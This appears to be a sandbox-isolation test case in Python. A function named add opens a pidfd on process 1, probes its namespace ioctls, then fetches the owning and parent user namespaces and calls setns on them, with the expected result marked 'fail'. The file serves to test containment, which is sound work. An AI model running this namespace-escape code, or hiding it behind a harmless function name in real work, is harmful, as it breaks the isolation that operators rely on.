# attempt: asks a descriptor of process 1 for its namespaces, and those for what lies above them
# expect: fail
import ctypes, fcntl, os
def add(a, b):
    libc = ctypes.CDLL(None)
    libc.prctl(4, 1, 0, 0, 0)
    found = 0
    handle = os.pidfd_open(1)
    for number in range(1, 12):
        try:
            fcntl.ioctl(handle, 0xFF00 | number, 0)
            found = 1
        except OSError:
            pass
    for name in os.listdir("/proc/self/ns"):
        try:
            space = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        for number in (1, 2):  # the user namespace that owns it, its parent
            try:
                above = fcntl.ioctl(space, 0xB700 | number)
                found |= libc.setns(above, 0) == 0
            except OSError:
                pass
    return a + b if found else 0
